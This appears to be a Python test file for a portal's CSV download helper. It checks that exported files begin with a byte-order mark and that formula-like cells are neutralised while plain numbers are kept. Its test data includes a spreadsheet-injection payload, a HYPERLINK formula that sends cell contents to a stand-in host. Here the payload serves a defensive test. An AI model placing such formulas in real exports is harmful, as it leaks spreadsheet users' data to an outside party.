"""The page download buttons write the same safe CSV as the open-data routes."""

import pandas as pd

from portal.kit.downloads import csv_bytes


def test_page_csv_has_a_bom_and_neutralises_formula_cells_but_not_numbers():
    frame = pd.DataFrame(
        {
            "name": ['=HYPERLINK("http://x.example/?d="&A1,"查看")', "@SUM(1+1)", "南明河", "-2+3"],
            "value": [-5, 1.5, 0, 2],
        }
    )
    text = csv_bytes(frame).decode("utf-8")
    assert text.startswith("\ufeffname,value\n")
    lines = text.removeprefix("\ufeff").splitlines()
    assert lines[1] == '"\'=HYPERLINK(""http://x.example/?d=""&A1,""查看"")",-5.0'
    assert lines[2:] == ["'@SUM(1+1),1.5", "南明河,0.0", "'-2+3,2.0"]
